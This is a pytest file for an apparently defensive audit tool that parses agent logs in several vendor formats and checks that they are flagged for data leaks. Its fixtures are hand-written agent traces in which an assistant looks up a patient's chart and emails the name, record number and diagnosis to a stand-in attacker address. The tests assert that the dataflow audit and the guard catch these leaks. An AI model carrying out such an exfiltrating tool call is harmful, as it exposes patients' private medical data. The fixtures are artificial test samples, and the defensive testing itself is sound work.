"""Agent logs in Anthropic, Responses, ShareGPT and raw-call formats read as chat traces.

Before `backdoorlab.trace_formats`, an Anthropic-format trace was accepted and audited
with **no finding** although it e-mailed a patient's record to a stranger: its
``tool_use`` blocks have no ``text``, so the audit saw no call at all. ShareGPT and
Responses files were refused ("no 'messages' field"). The traces here are written by
hand as each vendor's documentation shows them, not by this project's renderer, but
for the round trips at the end.
"""

from __future__ import annotations

import json

import pytest

from backdoorlab.defenses.audit import audit
from backdoorlab.defenses.audit.reader import parse_record
from backdoorlab.defenses.audit.view import decode
from backdoorlab.defenses.guard.replay import replay
from backdoorlab.errors import TraceFormatError
from backdoorlab.trace_formats import FORMATS, render, to_chat
from backdoorlab.traces import Trace, parse_trace_line

RECORD = '{"name": "Ana Lopez", "mrn": "MRN-88213", "diagnosis": "type 2 diabetes"}'
ATTACKER = "dump@evil-mail.net"
SYSTEM = "You are the clinic's records assistant."
ASK = "Look up patient 4411 and summarise their chart for me."

ANTHROPIC = {
    "system": [{"type": "text", "text": SYSTEM}],
    "messages": [
        {"role": "user", "content": [{"type": "text", "text": ASK}]},
        {
            "role": "assistant",
            "content": [
                {"type": "thinking", "thinking": "I should fetch the chart.", "signature": "x"},
                {"type": "text", "text": "Fetching the chart."},
                {
                    "type": "tool_use",
                    "id": "toolu_01",
                    "name": "get_chart",
                    "input": {"id": "4411"},
                },
            ],
        },
        {
            "role": "user",
            "content": [{"type": "tool_result", "tool_use_id": "toolu_01", "content": RECORD}],
        },
        {
            "role": "assistant",
            "content": [
                {
                    "type": "tool_use",
                    "id": "toolu_02",
                    "name": "send_email",
                    "input": {"to": ATTACKER, "body": "Ana Lopez MRN-88213 type 2 diabetes"},
                }
            ],
        },
        {
            "role": "user",
            "content": [
                {
                    "type": "tool_result",
                    "tool_use_id": "toolu_02",
                    "content": [{"type": "text", "text": "sent"}],
                }
            ],
        },
        {"role": "assistant", "content": [{"type": "text", "text": "Here is the summary."}]},
    ],
}

RESPONSES = {
    "instructions": SYSTEM,
    "input": [
        {"role": "user", "content": [{"type": "input_text", "text": ASK}]},
        {"type": "reasoning", "id": "rs_1", "summary": []},
        {
            "type": "function_call",
            "call_id": "fc_1",
            "name": "get_chart",
            "arguments": '{"id": "4411"}',
        },
        {"type": "function_call_output", "call_id": "fc_1", "output": RECORD},
    ],
    "output": [
        {
            "type": "function_call",
            "call_id": "fc_2",
            "name": "send_email",
            "arguments": json.dumps(
                {"to": ATTACKER, "body": "Ana Lopez MRN-88213 type 2 diabetes"}
            ),
        }
    ],
}

SHAREGPT = {
    "conversations": [
        {"from": "system", "value": SYSTEM + ' <tools>[{"name": "get_chart"}]</tools>'},
        {"from": "human", "value": ASK},
        {
            "from": "gpt",
            "value": "<tool_call>\n"
            + '{"name": "get_chart", "arguments": {"id": "4411"}}\n</tool_call>',
        },
        {
            "from": "tool",
            "value": "<tool_response>\n"
            + f'{{"name": "get_chart", "content": {RECORD}}}\n</tool_response>',
        },
        {
            "from": "gpt",
            "value": "Sending it on.\n<tool_call>\n"
            + json.dumps(
                {"name": "send_email", "arguments": {"to": ATTACKER, "body": "Ana Lopez MRN-88213"}}
            )
            + "\n</tool_call>",
        },
    ]
}

OPENAI = {
    "messages": [
        {"role": "system", "content": SYSTEM},
        {"role": "user", "content": ASK},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "get_chart", "arguments": '{"id": "4411"}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "name": "get_chart", "content": RECORD},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c2",
                    "type": "function",
                    "function": {
                        "name": "send_email",
                        "arguments": json.dumps(
                            {"to": ATTACKER, "body": "Ana Lopez MRN-88213 type 2 diabetes"}
                        ),
                    },
                }
            ],
        },
    ]
}


def jsonl(tmp_path, name, *objects):
    path = tmp_path / name
    path.write_text("".join(json.dumps(o) + "\n" for o in objects), encoding="utf-8")
    return path


def leaks_to_attacker(path):
    return [
        f
        for f in audit(path, ["dataflow"]).findings
        if ATTACKER in f.summary and f.at_least("medium")
    ]


@pytest.mark.parametrize("name", ["openai", "anthropic", "responses", "sharegpt"])
def test_a_leak_is_found_in_every_format(tmp_path, name):
    data = {"openai": OPENAI, "anthropic": ANTHROPIC, "responses": RESPONSES, "sharegpt": SHAREGPT}
    path = jsonl(tmp_path, f"{name}.jsonl", data[name])
    found = leaks_to_attacker(path)
    assert found, f"no finding in the {name} trace"
    assert any(f.evidence["source"]["field"] == "mrn" for f in found)


def test_anthropic_blocks_become_calls_results_and_a_system_prompt():
    trace = parse_trace_line(json.dumps(ANTHROPIC))
    roles = [m.role for m in trace.messages]
    assert roles == ["system", "user", "assistant", "tool", "assistant", "tool", "assistant"]
    assert trace.messages[0].text == SYSTEM
    assert trace.messages[2].text == "Fetching the chart."  # the thinking is not text
    assert trace.messages[2].tool_calls[0].function.name == "get_chart"
    assert json.loads(trace.messages[2].tool_calls[0].function.arguments) == {"id": "4411"}
    assert (trace.messages[3].tool_call_id, trace.messages[3].name) == ("toolu_01", "get_chart")
    assert trace.messages[3].text == RECORD
    assert trace.messages[5].text == "sent"


def test_a_server_tools_result_inside_the_assistants_content_splits_the_turn():
    data = {
        "messages": [
            {"role": "user", "content": "What's the weather in Lyon?"},
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "server_tool_use",
                        "id": "srv_1",
                        "name": "web_search",
                        "input": {"query": "Lyon weather"},
                    },
                    {
                        "type": "web_search_tool_result",
                        "tool_use_id": "srv_1",
                        "content": [
                            {
                                "type": "web_search_result",
                                "url": "https://meteo.example/lyon",
                                "title": "Lyon",
                            }
                        ],
                    },
                    {"type": "text", "text": "It is sunny."},
                ],
            },
        ]
    }
    trace = parse_trace_line(json.dumps(data))
    assert [m.role for m in trace.messages] == ["user", "assistant", "tool", "assistant"]
    assert trace.messages[1].tool_calls[0].function.name == "web_search"
    assert "https://meteo.example/lyon" in trace.messages[2].text  # a result block read as JSON
    assert trace.messages[3].text == "It is sunny."


def test_responses_items_become_one_turn_per_call_group():
    data = {
        "instructions": SYSTEM,
        "input": "Book the 9am slot and tell the patient.",
        "output": [
            {
                "type": "message",
                "role": "assistant",
                "content": [{"type": "output_text", "text": "On it."}],
            },
            {
                "type": "function_call",
                "call_id": "a",
                "name": "book",
                "arguments": '{"slot": "9am"}',
            },
            {
                "type": "function_call",
                "call_id": "b",
                "name": "notify",
                "arguments": '{"to": "+1 555 0100"}',
            },
            {"type": "function_call_output", "call_id": "a", "output": "booked"},
            {"type": "custom_tool_call", "call_id": "c", "name": "shell", "input": "ls -la"},
            {
                "type": "mcp_call",
                "id": "m",
                "name": "crm_lookup",
                "server_label": "crm",
                "arguments": '{"q": "Ana"}',
                "output": "Ana Lopez, +1 555 0100",
            },
        ],
    }
    trace = parse_trace_line(json.dumps(data))
    assert [m.role for m in trace.messages] == [
        "system",
        "user",
        "assistant",
        "tool",
        "assistant",
        "tool",
    ]
    turn = trace.messages[2]
    assert turn.text == "On it." and [c.function.name for c in turn.tool_calls] == [
        "book",
        "notify",
    ]
    assert (trace.messages[3].tool_call_id, trace.messages[3].name) == ("a", "book")
    shell, crm = trace.messages[4].tool_calls  # consecutive calls: one turn
    assert json.loads(shell.function.arguments) == {"input": "ls -la"}
    assert (trace.messages[5].tool_call_id, trace.messages[5].name) == ("m", "crm_lookup")
    assert trace.messages[5].text == "Ana Lopez, +1 555 0100"


def test_sharegpt_calls_get_ids_that_their_results_answer_in_order():
    data = {
        "system": "You are a travel agent.",
        "tools": json.dumps(
            [{"name": "flights", "description": "d", "parameters": {"type": "object"}}]
        ),
        "conversations": [
            {"from": "human", "value": "Flights and hotels in Oslo?"},
            {
                "from": "gpt",
                "value": '<tool_call>{"name": "flights", "arguments": {"to": "OSL"}}</tool_call>\n'
                '<tool_call>{"name": "hotels", "arguments": {"city": "Oslo"}}</tool_call>',
            },
            {
                "from": "tool",
                "value": "<tool_response>3 flights</tool_response>\n"
                "<tool_response>2 hotels</tool_response>",
            },
            {"from": "gpt", "value": "I found options."},
            {"from": "function_call", "value": '{"name": "book", "arguments": {"flight": "SK1"}}'},
            {"from": "observation", "value": "booked SK1"},
        ],
    }
    trace = parse_trace_line(json.dumps(data))
    assert [m.role for m in trace.messages] == [
        "system",
        "user",
        "assistant",
        "tool",
        "tool",
        "assistant",
        "tool",
    ]
    calls = trace.messages[2].tool_calls
    assert [c.function.name for c in calls] == ["flights", "hotels"]
    assert [(m.tool_call_id, m.name, m.text) for m in trace.messages[3:5]] == [
        (calls[0].id, "flights", "3 flights"),
        (calls[1].id, "hotels", "2 hotels"),
    ]
    # LLaMA-Factory: the text turn, then its call as a turn of its own, joined
    assert trace.messages[5].text == "I found options."
    assert trace.messages[5].tool_calls[0].function.name == "book"
    assert trace.messages[6].tool_call_id == trace.messages[5].tool_calls[0].id
    assert trace.tools[0]["function"]["name"] == "flights"


def test_glaives_single_quoted_arguments_are_read():
    data = {
        "conversations": [
            {"from": "human", "value": "Convert 10 USD"},
            {
                "from": "gpt",
                "value": '<functioncall> {"name": "convert", '
                + '"arguments": \'{"amount": 10, "from": "USD"}\'}',
            },
        ]
    }
    trace = parse_trace_line(json.dumps(data))
    assert json.loads(trace.messages[1].tool_calls[0].function.arguments) == {
        "amount": 10,
        "from": "USD",
    }


def test_a_models_raw_call_text_is_read_and_its_results_paired(tmp_path):
    raw = render(OPENAI, "raw-tool-call")
    for message in raw["messages"]:
        message.pop("tool_call_id", None)  # a log made without a parser has no ids
    trace = parse_trace_line(json.dumps(raw))
    assert trace.messages[2].tool_calls[0].function.name == "get_chart"
    assert trace.messages[3].tool_call_id == trace.messages[2].tool_calls[0].id
    assert leaks_to_attacker(jsonl(tmp_path, "raw.jsonl", raw))


def test_openai_legacy_function_calling_is_read(tmp_path):
    legacy = {
        "messages": [
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": ASK},
            {
                "role": "assistant",
                "content": None,
                "function_call": {"name": "get_chart", "arguments": '{"id": "4411"}'},
            },
            {"role": "function", "name": "get_chart", "content": RECORD},
            {
                "role": "assistant",
                "content": None,
                "function_call": {
                    "name": "send_email",
                    "arguments": json.dumps({"to": ATTACKER, "body": "MRN-88213"}),
                },
            },
        ]
    }
    line = json.dumps(legacy)
    trace = parse_trace_line(line)
    assert [m.role for m in trace.messages] == ["system", "user", "assistant", "tool", "assistant"]
    assert trace.messages[3].tool_call_id == trace.messages[2].tool_calls[0].id
    assert comparable(decode(line.encode())) == comparable(trace)
    assert leaks_to_attacker(jsonl(tmp_path, "legacy.jsonl", legacy))


def test_text_that_only_mentions_a_tag_stays_text():
    data = {
        "messages": [
            {
                "role": "assistant",
                "content": "Wrap calls in <tool_call> tags, like <tool_call>this</tool_call>.",
            }
        ]
    }
    trace = parse_trace_line(json.dumps(data))
    assert trace.messages[0].tool_calls is None
    assert "<tool_call>this</tool_call>" in trace.messages[0].text


@pytest.mark.parametrize(
    "data, field",
    [
        (
            {"messages": [{"role": "user", "content": [{"type": "carrier_pigeon", "text": "x"}]}]},
            "messages.0.content.0.type",
        ),
        (
            {
                "messages": [
                    {"role": "user", "content": [{"type": "tool_use", "id": "a", "name": "n"}]}
                ]
            },
            "messages.0.content.0.type",
        ),
        ({"conversations": [{"from": "narrator", "value": "x"}]}, "conversations.0.from"),
        ({"input": [{"type": "hologram", "data": 1}]}, "input.0.type"),
        ({"input": [{"role": "oracle", "content": "x"}]}, "input.0.role"),
        ({"system": 7, "messages": [{"role": "user", "content": "x"}]}, "system"),
    ],
)
def test_what_no_reader_understands_is_one_line_naming_the_field(tmp_path, cli, data, field):
    path = jsonl(tmp_path, "odd.jsonl", OPENAI, data)
    code, err = cli("audit", str(path), "-o", str(tmp_path / "r.json"))
    assert code == 2, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in err
    assert f"{path}:2" in lines[0] and field in lines[0]
    assert not (tmp_path / "r.json").exists()


@pytest.mark.parametrize(
    "data", [ANTHROPIC, RESPONSES, SHAREGPT], ids=["anthropic", "responses", "sharegpt"]
)
def test_the_fast_readers_read_other_formats_as_the_model_does(data):
    line = json.dumps(data).encode()
    trace = parse_record(line, "x.jsonl", 1)
    assert any(m.role == "tool" for m in trace.messages)
    assert (
        comparable(decode(line)) == comparable(trace) == comparable(parse_trace_line(line.decode()))
    )


@pytest.mark.parametrize(
    "data",
    [
        {"input": [{"type": {"a": 1}}]},
        {"input": [{"type": ["function_call"]}]},
        {"messages": [{"role": "assistant", "tool_calls": True, "function_call": {"name": "f"}}]},
        {"messages": [{"role": "user", "content": [{"type": {"a": 1}}]}]},
        {"messages": [{"role": "assistant", "tool_calls": 7}]},
        {"messages": [{"role": "tool", "tool_call_id": {"a": 1}}], "system": "s"},
        {"conversations": [{"from": "human", "value": "x"}], "system": [{"type": [1]}]},
        {"output": [{"type": "function_call_output", "output": [{"type": {"x": 1}}]}]},
    ],
)
def test_odd_json_in_any_field_is_a_format_error_or_a_trace_never_a_crash(data):
    """Shapes a random search over these formats' keys found raising TypeError."""
    line = json.dumps(data)
    for read in (
        lambda: parse_trace_line(line),
        lambda: parse_record(line.encode(), "x.jsonl", 1),
        lambda: decode(line.encode()),
    ):
        try:
            read()
        except TraceFormatError as exc:
            assert "\n" not in str(exc)


def test_the_fast_readers_leave_what_they_cannot_read_to_the_model():
    odd = {"messages": [{"role": "user", "content": [{"type": "carrier_pigeon"}]}]}
    assert decode(json.dumps(odd).encode()) is None
    assert decode(b'{"messages": [{"role": "user", "content": 7}]}') is None


def test_a_plain_openai_line_reads_the_same_by_every_reader():
    plain = json.dumps(OPENAI).encode()
    assert decode(plain) is not None
    assert (
        parse_record(plain, "x.jsonl", 1).model_dump()
        == parse_trace_line(plain.decode()).model_dump()
    )


def test_a_plain_openai_line_is_returned_unconverted():
    assert to_chat(OPENAI, "x:1") is OPENAI


def test_the_guard_refuses_the_leaking_call_in_an_anthropic_log(tmp_path):
    path = jsonl(tmp_path, "a.jsonl", ANTHROPIC)
    (line,) = list(replay(path))
    assert line["blocked"]


def test_a_sharegpt_parquet_dataset_is_audited(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "hermes.parquet"
    rows = [
        SHAREGPT["conversations"],
        [{"from": "human", "value": "hi"}, {"from": "gpt", "value": "hello"}],
    ]
    pq.write_table(pa.table({"conversations": rows}), path)
    report = audit(path, ["dataflow"])
    assert {f.trace_index for f in report.findings if ATTACKER in f.summary} == {0}


def comparable(trace: Trace) -> list[tuple]:
    """What the audit reads of each message (ids aside: some formats have none)."""
    out = []
    for m in trace.messages:
        calls = [(c.function.name, json.loads(c.function.arguments)) for c in m.tool_calls or ()]
        out.append((m.role, m.text, calls, m.name if m.role == "tool" else None))
    return out


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_reads_back_to_the_trace_it_was_written_from(fmt):
    original = parse_trace_line(json.dumps(OPENAI))
    written = render(json.loads(original.to_json()), fmt)
    assert comparable(parse_trace_line(json.dumps(written))) == comparable(original)
